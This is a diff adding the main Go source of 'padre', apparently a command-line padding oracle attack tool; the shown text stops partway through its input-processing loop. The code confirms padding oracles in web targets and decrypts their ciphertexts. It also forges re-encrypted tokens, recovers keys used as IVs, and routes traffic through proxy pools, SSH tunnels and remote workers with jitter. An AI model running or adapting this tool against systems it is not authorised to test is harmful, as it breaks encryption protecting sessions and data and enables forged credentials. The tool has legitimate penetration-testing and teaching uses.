@@ -0,0 +1,1139 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"math"
+	"net/http"
+	"net/http/cookiejar"
+	"os"
+	"runtime"
+	"runtime/debug"
+	"time"
+
+	fcolor "github.com/fatih/color"
+	"github.com/glebarez/padre"
+	"github.com/glebarez/padre/pkg/api"
+	"github.com/glebarez/padre/pkg/client"
+	"github.com/glebarez/padre/pkg/cluster"
+	"github.com/glebarez/padre/pkg/color"
+	"github.com/glebarez/padre/pkg/encoder"
+	"github.com/glebarez/padre/pkg/exploit"
+	"github.com/glebarez/padre/pkg/forge"
+	"github.com/glebarez/padre/pkg/httplog"
+	"github.com/glebarez/padre/pkg/monitor"
+	out "github.com/glebarez/padre/pkg/output"
+	"github.com/glebarez/padre/pkg/probe"
+	"github.com/glebarez/padre/pkg/util"
+)
+
+var (
+	stderr = fcolor.Error
+	stdout = os.Stdout
+)
+
+func main() {
+	var err error
+
+	// initialize printer
+	print := &out.Printer{
+		Stream: stderr,
+	}
+
+	// windows consoles need to be asked to process ANSI sequences (colors, line overwriting)
+	util.EnableANSI(os.Stderr)
+	util.EnableANSI(os.Stdout)
+
+	// determine terminal width
+	termWidth, err := util.TerminalWidth()
+	if err != nil {
+		// fallback to default, complain only if someone is watching
+		print.AvailableWidth = defaultTerminalWidth
+		if util.IsTerminal(os.Stderr) {
+			print.Errorf("Could not determine terminal width. Falling back to %d", defaultTerminalWidth)
+		}
+		err = nil
+	} else {
+		print.AvailableWidth = termWidth
+	}
+
+	// subcommands, that are tools of their own
+	if len(os.Args) > 1 {
+		if c := findCommand(os.Args[1]); c != nil {
+			os.Exit(c.run(print, os.Args[2:]))
+		}
+	}
+
+	// subcommands of the attack are shorthands for options they imply.
+	// probe sends a single request with given cipher, to tune description of padding error
+	var probeMode, decryptMode bool
+	if len(os.Args) > 1 {
+		for _, c := range attackCommands {
+			if os.Args[1] != c.name {
+				continue
+			}
+			probeMode = c.name == "probe"
+			decryptMode = c.name == "decrypt"
+			os.Args = append(append(append([]string{}, os.Args[0]), c.implies...), os.Args[2:]...)
+			break
+		}
+	}
+
+	// parse CLI arguments
+	args, errs := parseArgs()
+	if decryptMode && *args.EncryptMode {
+		errs.flagErrorf("decrypt, -enc", "Cannot be used together, use encrypt command instead")
+	}
+
+	// print version and exit
+	if *args.Version {
+		fmt.Fprintln(stdout, padre.Version)
+		os.Exit(0)
+	}
+
+	// check if errors occurred during CLI arguments parsing
+	if len(errs.errors) > 0 {
+		print.AddPrefix(color.CyanBold("argument errors:"), true)
+		for _, e := range errs.errors {
+			print.Error(e)
+		}
+		print.RemovePrefix()
+		print.Printlnf("Run with %s option to see usage help", color.CyanBold("-h"))
+		os.Exit(1)
+	}
+
+	print.Verbosity = args.Verbosity
+
+	// no animation when asked, or when nobody watches (output goes to file, CI or container log).
+	// lines are stamped with time then, as they are read later
+	quiet := *args.Quiet || !util.IsTerminal(os.Stderr)
+	print.Plain = quiet
+	print.Timestamps = quiet
+	print.Silent = *args.Pipe
+
+	// check if warnings occurred during CLI arguments parsing
+	for _, w := range errs.warnings {
+		print.Warning(w)
+	}
+
+	// show welcoming message
+	print.Info("%s is on duty", color.CyanBold("padre"))
+
+	// everything stops when context is done: on interrupt (see listenInterrupts) or when time is over
+	ctx, abort := context.WithCancel(context.Background())
+	defer abort()
+	if *args.MaxRuntime > 0 {
+		var cancel context.CancelFunc
+		ctx, cancel = context.WithTimeout(ctx, *args.MaxRuntime)
+		defer cancel()
+	}
+
+	// respect CPU quota of container, Go runtime does not do that
+	if quota, ok := util.CPUQuota(); ok {
+		procs := int(math.Ceil(quota))
+		if procs < runtime.GOMAXPROCS(0) {
+			runtime.GOMAXPROCS(procs)
+			print.Info("GOMAXPROCS is limited to %s by CPU quota", color.Green(procs))
+		}
+	}
+
+	// trade speed for memory
+	if *args.LowResource {
+		debug.SetGCPercent(lowResourceGCPercent)
+		print.Info("low-resource mode")
+	}
+
+	// be verbose about concurrency
+	print.Info("using concurrency (http connections): %s", color.Green(*args.Parallel))
+
+	// describe throttling
+	var throttle string
+	if *args.Delay > 0 || *args.Jitter > 0 {
+		throttle = fmt.Sprintf("delay %s", *args.Delay)
+		if *args.Jitter > 0 {
+			throttle += fmt.Sprintf("±%s", *args.Jitter)
+		}
+		print.Info("throttling: %s before every request", color.Green(throttle))
+	}
+
+	if *args.TraceEdu {
+		print.Info("annotated trace: every step of the attack is explained, best used with short demo ciphers (1-2 blocks)")
+	}
+
+	// runtime control of HTTP requests is needed for TUI and pause/resume hotkeys.
+	// hotkeys are available only when STDIN is a terminal (not used for inputs).
+	// stats are shown in TUI, and failed requests make exploit verify recovered bytes
+	var (
+		gate    *client.Gate
+		stats   = &client.Stats{}
+		hotkeys = !*args.TUI && (args.Input != nil || args.Session != nil) && util.IsTerminal(os.Stdin)
+	)
+	if *args.TUI || hotkeys || *args.API != "" {
+		gate = client.NewGate(*args.Parallel)
+	}
+
+	// emulate browser cache
+	var validators *client.Validators
+	if *args.CacheHeaders {
+		validators = client.NewValidators()
+	}
+
+	// spread requests across proxies from the pool
+	var (
+		proxyPool *client.ProxyPool
+		proxyFunc = http.ProxyURL(args.ProxyURL)
+	)
+	if args.ProxyPool != nil && !*args.DryRun {
+		proxyPool, err = client.NewProxyPool(args.ProxyPool)
+		if err != nil {
+			print.Error(err)
+			exit(1)
+		}
+
+		print.Action("checking proxies...")
+		alive := proxyPool.Check()
+		if alive == 0 {
+			print.Errorf("none of %d proxies is alive", proxyPool.Size())
+			exit(exitNetwork)
+		}
+		print.Info("proxies alive: %s", color.Green(fmt.Sprintf("%d/%d", alive, proxyPool.Size())))
+
+		proxyPool.StartHealthChecks(ctx, proxyHealthCheckInterval)
+		proxyFunc = proxyPool.Proxy
+	}
+
+	// route all requests through SSH tunnel
+	if *args.SSH != "" && !*args.DryRun {
+		print.Action(fmt.Sprintf("establishing SSH tunnel via %s...", *args.SSH))
+		tunnel, err := client.OpenSSHTunnel(*args.SSH, sshTunnelTimeout)
+		if err != nil {
+			print.Error(err)
+			exit(exitNetwork)
+		}
+		atExit(func() { tunnel.Close() })
+		print.Success("SSH tunnel established via %s", color.Green(*args.SSH))
+
+		proxyFunc = http.ProxyURL(tunnel.ProxyURL)
+	}
+
+	// distribute probes across remote workers
+	var dispatcher client.Dispatcher
+	if args.Workers != nil && !*args.DryRun {
+		coordinator := &cluster.Coordinator{
+			Workers:    args.Workers,
+			Token:      *args.WorkerToken,
+			HTTPclient: &http.Client{Transport: client.NewTransport(&client.TransportOptions{KeepAlive: true})},
+		}
+
+		print.Action("checking workers...")
+		if err := coordinator.Check(); err != nil {
+			print.Error(err)
+			exit(exitNetwork)
+		}
+		print.Info("probes are distributed across %s workers", color.Green(len(args.Workers)))
+
+		dispatcher = coordinator
+	}
+
+	// initialize HTTP client
+	transportOptions := &client.TransportOptions{
+		HTTP2:           *args.HTTP2,
+		KeepAlive:       *args.KeepAlive,
+		MaxConnsPerHost: *args.MaxConnsPerHost,
+		IdleTimeout:     *args.IdleTimeout,
+		TLSConfig:       args.TLSConfig,
+		Proxy:           proxyFunc,
+	}
+
+	var maxBodySize int64
+	if *args.LowResource {
+		transportOptions.ReadBufferSize = lowResourceBufferSize
+		transportOptions.WriteBufferSize = lowResourceBufferSize
+		maxBodySize = lowResourceMaxBodySize
+	}
+
+	// cookies set by server are sent back, like browser does
+	httpClient := &http.Client{
+		Transport:     client.NewTransport(transportOptions),
+		CheckRedirect: client.RedirectPolicy(*args.FollowRedirects),
+	}
+	if *args.CookieJar {
+		httpClient.Jar, _ = cookiejar.New(nil)
+	}
+
+	// repeated probes are answered from cache
+	var cache *client.Cache
+	if *args.Cache > 0 {
+		cache = client.NewCache(*args.Cache)
+		print.Info("caching up to %s responses", color.Green(*args.Cache))
+	}
+
+	// blocks broken at once may send identical probes, those are sent only once
+	var dedup *client.Deduplicator
+	if *args.BlockParallel > 1 {
+		dedup = client.NewDeduplicator()
+		print.Info("decrypting up to %s blocks at once, each with its own connections", color.Green(*args.BlockParallel))
+	}
+
+	// response is awaited no longer than timeout, dynamic one follows latency measured since calibration
+	timeout := client.NewDynamicTimeout()
+	if *args.Timeout > 0 {
+		timeout = client.NewFixedTimeout(*args.Timeout)
+	}
+
+	client := &client.Client{
+		HTTPclient:          httpClient,
+		URL:                 *args.TargetURL,
+		POSTdata:            *args.POSTdata,
+		Method:              *args.Method,
+		Cookies:             args.Cookies,
+		Headers:             args.Headers,
+		CipherPlaceholder:   `$`,
+		PlaceholderEncoding: args.PlaceholderEncoding,
+		Encoder:             args.Encoder,
+		Concurrency:         *args.Parallel,
+		ContentType:         *args.ContentType,
+		Referer:             *args.Referer,
+		Validators:          validators,
+		MaxBodySize:         maxBodySize,
+		Delay:               *args.Delay,
+		Jitter:              *args.Jitter,
+		Gate:                gate,
+		Stats:               stats,
+		ProxyPool:           proxyPool,
+		Dispatcher:          dispatcher,
+		Command:             args.OracleCmd,
+		Refresher:           args.Refresher,
+		CSRF:                args.CSRF,
+		Cache:               cache,
+		Dedup:               dedup,
+		Timeout:             timeout,
+	}
+
+	// IV in its own request field (block length is known then)
+	if args.SeparateIV {
+		client.IVLength = *args.BlockLen
+	}
+
+	// sample requests are shown instead of attack
+	if *args.DryRun {
+		exit(dryRun(print, args, client))
+	}
+
+	// record HTTP traffic.
+	// when only valid responses are recorded, recording starts as soon as padding error is recognizable
+	var httpLogger *httplog.Logger
+	if *args.LogHTTP != "" {
+		httpLogger, err = httplog.Create(*args.LogHTTP, *args.LogHTTPFormat)
+		if err != nil {
+			print.Error(fmt.Errorf("failed to create HTTP log: %w", err))
+			exit(1)
+		}
+		atExit(func() {
+			if err := httpLogger.Close(); err != nil {
+				print.Warning("HTTP log %s is incomplete: %s", *args.LogHTTP, err)
+			}
+		})
+		if !*args.LogHTTPValidOnly {
+			client.AddRecorder(httpLogger)
+		}
+	}
+
+	// the first requests are compared with request template in debug mode, to spot mistakes of encoding or placeholder
+	if args.Verbosity >= out.LevelDebug && client.Command == nil {
+		if diff, err := newRequestDiff(print, client); err != nil {
+			print.Warning("request template can not be rendered: %s", err)
+		} else {
+			client.AddRecorder(diff)
+		}
+	}
+
+	// create matcher for padding error
+	var matcher probe.PaddingErrorMatcher
+
+	if *args.PaddingErrorPattern != "" {
+		matcher, err = probe.NewMatcherByRegexp(*args.PaddingErrorPattern)
+	} else if args.PaddingErrorStatus != nil {
+		matcher, err = probe.NewMatcherByStatusCode(args.PaddingErrorStatus)
+	} else if args.PaddingErrorLength != nil {
+		matcher, err = probe.NewMatcherByContentLength(args.PaddingErrorLength[0], args.PaddingErrorLength[1])
+	} else if *args.PaddingErrorLocation != "" {
+		matcher, err = probe.NewMatcherByLocation(*args.PaddingErrorLocation)
+	} else if *args.PaddingErrorHeader != "" {
+		matcher, err = probe.NewMatcherByHeader(*args.PaddingErrorHeader)
+	} else if *args.OracleExpression != "" {
+		matcher, err = probe.NewMatcherByExpression(*args.OracleExpression)
+	}
+
+	if err != nil {
+		print.Error(err)
+		exit(1)
+	}
+
+	// provided pattern may describe successful responses instead of padding errors
+	if matcher != nil && *args.MatchSuccess {
+		matcher = probe.NewMatcherInverted(matcher)
+	}
+
+	// oracle command reports padding error with non-zero exit code, unless told otherwise
+	if matcher == nil && args.OracleCmd != nil && !*args.Explore {
+		matcher, _ = probe.NewMatcherByStatusCode([]int{0})
+		matcher = probe.NewMatcherInverted(matcher)
+	}
+
+	if probeMode {
+		exit(runProbe(ctx, print, args, client, matcher))
+	}
+
+	// RSA ciphertexts need neither calibration nor block-wise processing
+	if args.RSAKey != nil {
+		listenInterrupts(print, abort)
+		exit(attackRSA(ctx, print, args, client, matcher, readInputs(args)))
+	}
+
+	// -- detect/confirm padding oracle
+	// set block lengths to try
+	var blockLengths []int
+
+	if *args.BlockLen == 0 {
+		// no block length expliitly provided, we need to try all supported lengths
+		blockLengths = []int{8, 16, 32}
+	} else {
+		blockLengths = []int{*args.BlockLen}
+	}
+
+	// the vulnerable parameter becomes the placeholder, its value is the default input
+	if *args.Scan {
+		print.Action("scanning parameters for padding oracle...")
+		candidate, err := scan(ctx, print, client, matcher, blockLengths)
+		if err != nil {
+			print.Error(err)
+			exit(exitCodeOf(err, exitError))
+		}
+		args.Encoder = client.Encoder
+		if args.Input == nil && args.Session == nil && !*args.EncryptMode {
+			args.Input = &candidate.Value
+		}
+	}
+
+	// requests of load-balanced target must reach the same backend, otherwise the oracle is inconsistent
+	if *args.Sticky {
+		print.Action("detecting backends...")
+		backends, err := probe.DetectBackends(ctx, client, blockLengths[0])
+		if err != nil {
+			print.Error(err)
+			exit(exitCodeOf(err, exitError))
+		}
+
+		if pin := backends.Pin(client); pin != "" {
+			print.Success("requests are pinned to one backend with %s", pin)
+		} else if backends.Multiple() {
+			print.Warning("multiple backends detected, but there is no sticky cookie or header to pin requests with")
+		} else {
+			print.Info("no signs of multiple backends")
+		}
+	}
+
+	// padding error is picked by user from clusters of responses, then confirmed as usual
+	if *args.Explore {
+		matcher, err = explore(ctx, print, client, blockLengths)
+		if err != nil {
+			print.Error(err)
+			exit(exitCodeOf(err, exitError))
+		}
+	}
+
+	var i, bl int
+	// in final block mode, random ciphers can't pass integrity check, so oracle can't be confirmed
+	if *args.FinalBlock {
+		bl = blockLengths[0]
+		print.Warning("final block mode: padding oracle is not confirmed")
+	}
+
+	// if matcher was already created due to explicit pattern provided in args
+	// we need to just confirm the existence of padding oracle
+	if matcher != nil && !*args.FinalBlock {
+		print.Action("confirming padding oracle...")
+		for i, bl = range blockLengths {
+			confirmed, err := probe.ConfirmPaddingOracle(ctx, client, matcher, bl)
+			if err != nil {
+				print.Error(err)
+				exit(exitCodeOf(err, exitError))
+			}
+
+			// exit as soon as padding oracle is confirmed
+			if confirmed {
+				print.Success("padding oracle confirmed")
+				break
+			}
+
+			print.Log(out.LevelVerbose, "padding oracle not confirmed", "block_length", bl)
+
+			// on last iteration, getting here means confirming failed
+			if i == len(blockLengths)-1 {
+				print.Errorf("padding oracle was not confirmed")
+				hints := makeDetectionHints(args)
+				if diagnoseIntegrityCheck(ctx, print, client, blockLengths) {
+					hints = append(hints, tryFinalBlock)
+				}
+				if !*args.Sticky && diagnoseBackends(ctx, print, client, blockLengths) {
+					hints = append(hints, trySticky)
+				}
+				printHints(print, hints)
+				exit(exitNotConfirmed)
+			}
+		}
+	}
+
+	// if matcher was not created (e.g. pattern was not provided in CLI args)
+	// then we need to auto-detect the fingerprint of padding oracle
+	if matcher == nil {
+		print.Action("fingerprinting HTTP responses for padding oracle...")
+		for i, bl = range blockLengths {
+			matcher, err = probe.DetectPaddingErrorFingerprint(ctx, client, bl)
+			if err != nil {
+				print.Error(err)
+				exit(exitCodeOf(err, exitError))
+			}
+
+			// exit as soon as fingerprint is detected
+			if matcher != nil {
+				print.Success("successfully detected padding oracle")
+				break
+			}
+
+			print.Log(out.LevelVerbose, "padding error fingerprint not detected", "block_length", bl)
+
+			// on last iteration, getting here means confirming failed
+			if i == len(blockLengths)-1 {
+				print.Errorf("could not auto-detect padding oracle fingerprint")
+				hints := makeDetectionHints(args)
+				if diagnoseIntegrityCheck(ctx, print, client, blockLengths) {
+					hints = append(hints, tryFinalBlock)
+				}
+				if !*args.Sticky && diagnoseBackends(ctx, print, client, blockLengths) {
+					hints = append(hints, trySticky)
+				}
+				printHints(print, hints)
+				exit(exitNotConfirmed)
+			}
+		}
+	}
+
+	// set block length if it was auto-detected
+	if *args.BlockLen == 0 {
+		*args.BlockLen = bl
+		print.Success("detected block length: %s", color.Green(bl))
+	}
+
+	// detect padding scheme, unless explicitly set
+	padding := args.Padding
+	if padding == nil {
+		print.Action("detecting padding scheme...")
+		padding, err = (&exploit.Padre{Client: client, Matcher: matcher, BlockLen: bl}).DetectPadding(ctx)
+		if err != nil {
+			print.Errorf("could not detect padding scheme: %s", err)
+			exit(exitCodeOf(err, exitNotConfirmed))
+		}
+		print.Success("detected padding scheme: %s", color.Green(padding.Name()))
+	}
+
+	// only the last byte of padding is verified, nothing can be recovered beyond it
+	if padding.Tail(2) == nil {
+		print.Errorf("oracle verifies only the last byte of padding (%s or lenient ansix923), the cipher cannot be broken", padding.Name())
+		exit(exitNotConfirmed)
+	}
+
+	print.Log(out.LevelVerbose, "calibrated", "matcher", matcher, "block_length", bl, "padding", padding.Name())
+	print.Info("request timeout: %s", color.Green(timeout))
+
+	if httpLogger != nil && *args.LogHTTPValidOnly {
+		httpLogger.Filter = httplog.NotMatching(matcher)
+		client.AddRecorder(httpLogger)
+	}
+
+	// print mode used
+	status := &statusReporter{mode: "decrypt", blockLen: bl}
+	if *args.EncryptMode {
+		status.mode = "encrypt"
+	} else if args.Forge != nil {
+		status.mode = "forge"
+	}
+	print.Warning("mode: %s", color.CyanBold(status.mode))
+
+	// expose status of this instance on local socket
+	if *args.Socket != "" {
+		server, err := monitor.Listen(*args.Socket, status.snapshot)
+		if err != nil {
+			print.Warning("status socket is not available: %s", err)
+		} else {
+			atExit(func() { server.Close() })
+		}
+	}
+
+	// expose metrics for Prometheus
+	var metrics *monitor.Metrics
+	if *args.Metrics != "" {
+		metrics = &monitor.Metrics{
+			Snapshot: status.snapshot,
+			Requests: func() (int, int, time.Duration) {
+				s := stats.Snapshot()
+				return s.Requests, s.Errors, s.Latency
+			},
+		}
+		server, err := monitor.ListenMetrics(*args.Metrics, metrics)
+		if err != nil {
+			print.Errorf("could not serve metrics: %s", err)
+			exit(1)
+		}
+		atExit(func() { server.Close() })
+		print.Info("metrics are served at %s", color.Green("http://"+server.Addr+"/metrics"))
+	}
+
+	// build list of inputs to process
+	inputs := make([]string, 0)
+
+	// headless mode: inputs are submitted through REST API
+	var apiServer *api.Server
+	if *args.API != "" {
+		if apiServer, err = startAPI(print, args, status.snapshot, gate); err != nil {
+			print.Errorf("could not serve API: %s", err)
+			exit(1)
+		}
+		if args.Input != nil {
+			apiServer.Submit("", *args.Input)
+		}
+	} else if args.Session != nil {
+		// continue interrupted session
+		inputs = args.Session.Inputs
+		print.Info("resuming session from input %s", color.Green(fmt.Sprintf("%d/%d", args.Session.Current+1, len(inputs))))
+		if f := args.Session.Failure; f != nil {
+			where := fmt.Sprintf("input %d", f.Input+1)
+			if f.Block > 0 {
+				where = fmt.Sprintf("block %d of %s", f.Block, where)
+			}
+			print.Info("previous run failed at %s (%s): %s", where, f.Reason, f.Error)
+		}
+	} else {
+		inputs = readInputs(args)
+	}
+	status.inputList = inputs
+
+	// create router for outputs
+	// by default, encryption (and forging) outputs are encoded, decryption outputs are raw bytes
+	var defaultEncoder encoder.Encoder
+	if *args.EncryptMode || args.Forge != nil {
+		defaultEncoder = args.Encoder
+	}
+
+	router, err := makeRouter(args.Sinks, defaultEncoder, *args.ForceRaw)
+	if err != nil {
+		print.Error(err)
+		exit(1)
+	}
+	atExit(func() { router.Close() })
+
+	// progress milestones and results are POSTed to webhook
+	var notifier *out.Notifier
+	if *args.NotifyURL != "" {
+		if notifier, err = newNotifier(print, args); err != nil {
+			print.Error(err)
+			exit(1)
+		}
+		notifyStart(notifier, status.mode, len(inputs))
+		go watchMilestones(ctx, notifier, status)
+	}
+
+	// switch to full-screen TUI if requested
+	var tui *out.TUI
+	if *args.TUI {
+		tui = out.NewTUI("padre "+padre.Version, status.mode, gate, stats, func() {
+			tui.Stop(stderr)
+			print.Stream = stderr
+			print.Errorf("aborted by user")
+			exit(exitAborted)
+		})
+
+		if err := tui.Start(); err != nil {
+			print.Warning("could not start TUI, falling back to status bar: %s", err)
+			tui = nil
+		} else {
+			print.Stream = tui
+			print.Resize(tui.Width() - 1)
+		}
+	}
+
+	// status bar follows resizes of terminal (TUI handles resizes on its own)
+	if tui == nil && !quiet {
+		atExit(util.WatchTerminalWidth(print.Resize))
+	}
+
+	// progress of current input can be saved, to resume later
+	saveSession := func() (string, error) {
+		return *args.SessionFile, args.SessionStore.Save(status.session())
+	}
+
+	// interrupt stops the work gracefully: in-flight requests are canceled,
+	// results recovered so far are reported and saved
+
+	// listen for pause/resume hotkey
+	hotkeysListened := false
+	if hotkeys {
+		if err := listenHotkeys(print, gate, abort); err != nil {
+			print.Warning("pause/resume hotkey is not available: %s", err)
+		} else {
+			hotkeysListened = true
+			print.Info("press %s to pause/resume, %s to save session and exit", color.CyanBold("space"), color.CyanBold("Ctrl+C"))
+		}
+	}
+	if !hotkeysListened {
+		listenInterrupts(print, abort)
+	}
+
+	// whether session was saved after stop
+	sessionSaved := false
+
+	// init padre instance
+	padre := &exploit.Padre{
+		Client:   client,
+		Matcher:  matcher,
+		BlockLen: *args.BlockLen,
+		Padding:  padding,
+		Retries:  *args.Retries,
+		Confirm:  *args.Confirm,
+		Order:    args.Order,
+		Hints:    args.Hints,
+		Format:   args.Format,
+
+		BlockParallel: *args.BlockParallel,
+		HeadFirst:     args.HeadFirst,
+		ByteRange:     args.ByteRange,
+	}
+
+	if print.Verbosity > 0 {
+		padre.Log = print.Log
+	}
+	if metrics != nil {
+		padre.BlockDone = metrics.ObserveBlock
+	}
+	setupIntermediates(print, args, padre)
+
+	// metrics of every block are reported at the end of input
+	var blockStats *blockStatsCollector
+	if *args.BlockStats {
+		blockStats = &blockStatsCollector{}
+		padre.BlockStats = blockStats.add
+	}
+
+	// decrypted blocks are written out as soon as they are recovered
+	var stream *plaintextStream
+	if *args.StreamFile != "" {
+		if stream, err = openPlaintextStream(*args.StreamFile); err != nil {
+			print.Error(err)
+			exit(1)
+		}
+		atExit(func() { stream.Close() })
+	}
+
+	// explain the attack step by step
+	if *args.TraceEdu {
+		padre.Trace = func(format string, a ...interface{}) {
+			print.Println(color.Cyan("[trace] ") + fmt.Sprintf(format, a...))
+		}
+	}
+
+	// process inputs one by one
+	var (
+		errCount, skipped int
+		results           outcomes
+		interrupted       bool
+	)
+
+	for i := 0; i < len(inputs) || apiServer != nil; i++ {
+		// mode of instance, unless submitted job asks for another one
+		mode, encrypt, resultEncoder := status.mode, *args.EncryptMode, defaultEncoder
+
+		// headless: wait for the next submitted input
+		if i == len(inputs) {
+			job, ok := apiServer.Next(ctx)
+			if !ok {
+				break
+			}
+			inputs = append(inputs, job.Input)
+			status.setInputs(inputs)
+
+			switch {
+			case job.Mode == api.ModeEncrypt && !encrypt:
+				mode, encrypt, resultEncoder = "encrypt", true, args.Encoder
+			case job.Mode == api.ModeDecrypt && encrypt:
+				mode, encrypt, resultEncoder = "decrypt", false, nil
+			}
+		}
+		input := inputs[i]
+
+		// part of output may be already known from the resumed session
+		var known []byte
+		if args.Session != nil {
+			if i < args.Session.Current {
+				skipped++
+				continue
+			}
+			if i == args.Session.Current {
+				known = args.Session.Output
+			}
+		}
+
+		// create new status bar for current input
+		prefix := color.CyanBold(fmt.Sprintf("[%d/%d]", i+1, len(inputs)))
+		print.AddPrefix(prefix, true)
+
+		var (
+			output []byte
+			binary bool // output would corrupt terminal if written as-is
+			bar    *out.HackyBar
+			hints  []string
+		)
+
+		// encrypt or decrypt
+		if encrypt {
+			// init hacky bar
+			bar = out.CreateHackyBar(args.Encoder, len(padre.Padding.Pad([]byte(input), bl))+bl, encrypt, print)
+
+			// provide HTTP client with event-channel, so we can count RPS
+			client.RequestEventChan = bar.ChanReq
+			bar.Gate = gate
+			bar.Static = *args.LowResource || *args.TraceEdu
+			bar.Quiet = quiet
+			bar.Interval = *args.ProgressInterval
+			bar.Throttle = throttle
+			status.track(i+1, len(inputs), bar)
+			if tui != nil {
+				tui.Track(i+1, len(inputs), bl, bar)
+			}
+
+			if blockStats != nil {
+				blockStats.start("encrypt")
+			}
+			bar.Start()
+			output, err = padre.EncryptWithKnown(ctx, input, known, bar.ChanOutput)
+			bar.StopWithReason(stopReason(err))
+
+			// target does not take IV from the cipher
+			if err == nil && (*args.NoIV || args.IV != nil) && !args.SeparateIV {
+				output = output[bl:]
+			}
+			binary = !util.IsPrintable(output)
+		} else {
+			if input == "" {
+				err = exploit.InvalidInput(fmt.Errorf("empty input"))
+				goto Error
+			}
+
+			// decode input into bytes
+			var ciphertext []byte
+			ciphertext, err = args.Encoder.DecodeString(input)
+			if err != nil {
+				err = exploit.InvalidInput(err)
+				hints = append(hints, checkEncoding)
+				goto Error
+			}
+
+			// IV is not part of input: it's known, or zero block takes its place (the first block of plaintext can not be recovered then).
+			// in final block mode, the preceding block serves as IV, unless there is none
+			if (*args.NoIV || args.IV != nil) && (!*args.FinalBlock || len(ciphertext) == bl) {
+				iv := args.IV
+				if iv == nil {
+					iv = make([]byte, bl)
+				}
+				ciphertext = append(append([]byte{}, iv...), ciphertext...)
+			}
+			if len(ciphertext) <= bl {
+				err = exploit.InvalidInput(fmt.Errorf("Ciphertext is too short (%d bytes), IV and at least one block of %d bytes are expected", len(ciphertext), bl))
+				hints = append(hints, checkEncoding)
+				goto Error
+			}
+
+			// init hacky bar
+			plainLen := len(ciphertext) - bl
+			if *args.FinalBlock {
+				plainLen = bl
+			}
+			bar = out.CreateHackyBar(encoder.NewASCIIencoder(), plainLen, encrypt, print)
+			if stream != nil || plainLen/bl > largeInputBlocks {
+				bar.BlockLen = bl
+			}
+
+			// provide HTTP client with event-channel, so we can count RPS
+			client.RequestEventChan = bar.ChanReq
+			bar.Gate = gate
+			bar.Static = *args.LowResource || *args.TraceEdu
+			bar.Quiet = quiet
+			bar.Interval = *args.ProgressInterval
+			bar.Throttle = throttle
+			status.track(i+1, len(inputs), bar)
+			if tui != nil {
+				tui.Track(i+1, len(inputs), bl, bar)
+			}
+
+			// do decryption
+			if blockStats != nil {
+				blockStats.start("decrypt")
+			}
+			// blocks are delivered as soon as decrypted
+			var head *headPreview
+			if args.HeadFirst && !*args.FinalBlock {
+				head = newHeadPreview(print)
+			}
+			if stream != nil {
+				stream.start(plainLen)
+			}
+			padre.BlockDecrypted = deliverBlocks(stream, head)
+			bar.Start()
+			if *args.FinalBlock {
+				output, err = padre.DecryptFinalBlock(ctx, ciphertext, bar.ChanOutput)
+			} else {
+				output, err = padre.DecryptWithKnown(ctx, ciphertext, known, bar.ChanOutput)
+			}
+			bar.StopWithReason(stopReason(err))
+			padre.BlockDecrypted = nil
+			if stream != nil {
+				if stream.err != nil {
+					// do not tolerate errors in output writer
+					print.Error(stream.err)
+					exit(1)
+				}
+			}
+			if err != nil {
+				goto Error
+			}
+
+			// IV is the key: zero IV gave the intermediate of the first block, known plaintext turns it into the key
+			if args.IVKey != nil {
+				if key, keyErr := exploit.RecoverKeyIV(ciphertext[bl:2*bl], output[:bl], args.IVKey); keyErr != nil {
+					print.Warning("could not recover key from IV: %s", keyErr)
+				} else {
+					print.Success("IV is the key: %s", color.Green(hex.EncodeToString(key)))
+					for j := range key {
+						output[j] ^= key[j]
+					}
+					if stream != nil {
+						stream.write(0, output[:bl])
+					}
+				}
+			}
+
+			// binary plaintext is better viewed as hexdump
+			binary = !isPrintablePlaintext(output, padre.Padding, bl)
+			if *args.Hexdump || binary {
+				printHexdump(print, output)
+				bar.Overflow = false
+			}
+			printDecryptedViewstate(print, output, padre.Padding, bl)
+
+			// edit the plaintext and encrypt it back
+			if args.Forge != nil {
+				plain, ok := padre.Padding.Unpad(output, bl)
+				if !ok {
+					err = fmt.Errorf("decrypted plaintext has invalid %s padding, cannot forge", padre.Padding.Name())
+					goto Error
+				}
+
+				plain, err = forge.Apply(plain, args.Forge)
+				if err != nil {
+					goto Error
+				}
+				print.Success("forged plaintext: %s", color.Green(encoder.NewASCIIencoder().EncodeToString(plain)))
+
+				bar = out.CreateHackyBar(args.Encoder, len(padre.Padding.Pad(plain, bl))+bl, true, print)
+				client.RequestEventChan = bar.ChanReq
+				bar.Gate = gate
+				bar.Static = *args.LowResource || *args.TraceEdu
+				bar.Quiet = quiet
+				bar.Interval = *args.ProgressInterval
+				bar.Throttle = throttle
+
+				// progress of forging is not saved into session, the input is started over upon resume
+				status.track(i+1, len(inputs), nil)
+				if tui != nil {
+					tui.Track(i+1, len(inputs), bl, bar)
+				}
+
+				if blockStats != nil {
+					blockStats.start("encrypt")
+				}
+				bar.Start()
+				output, err = padre.Encrypt(ctx, string(plain), bar.ChanOutput)
+				bar.StopWithReason(stopReason(err))
+
+				// target does not take IV from the cipher
+				if err == nil && (*args.NoIV || args.IV != nil) && !args.SeparateIV {
+					output = output[bl:]
+				}
+				binary = !util.IsPrintable(output)
+			}
+		}
+
+		// warn about output overflow
+		if bar.Overflow && util.IsTerminal(stdout) {
+			print.Warning("Output was too wide to fit to you terminal. Redirect STDOUT somewhere to get full output")
+		}
+
+	Error:
+
+		// in case of error, skip to the next input
+		if err != nil {
+			print.Error(err)
+			errCount++
+
+			reason := exploit.ReasonOf(err)
+			hints = append(hints, makeStopHints(reason, args)...)
+			if len(hints) > 0 {
+				printHints(print, hints)
+			}
+
+			// show what was recovered before the stop
+			if reason.Resumable() && bar != nil {
+				printPartial(print, bar, err)
+			}
+
+			// keep the progress, so that work can be resumed (only first stop is saved, resume continues from there)
+			if reason.Resumable() && !sessionSaved && bar != nil && bar.Progress().Done > 0 {
+				status.fail(err)
+				if path, saveErr := saveSession(); saveErr != nil {
+					print.Warning("could not save session: %s", saveErr)
+				} else {
+					sessionSaved = true
+					print.Success("progress saved to %s, resume with %s", color.Green(path), color.CyanBold("-resume "+path))
+				}
+			}
+		}
+
+		// interrupted or time is over: nothing else is processed
+		if ctx.Err() != nil {
+			// the input was completed before the interrupt, resume from the next one
+			if err == nil {
+				status.track(i+2, len(inputs), nil)
+			}
+			interrupted = true
+		}
+
+		// padding is of no interest in notification
+		notified := output
+		if plain, ok := padding.Unpad(output, bl); ok && mode == "decrypt" {
+			notified = plain
+		}
+		notifyResult(notifier, mode, i+1, len(inputs), notified, resultEncoder, err)
+		if metrics != nil {
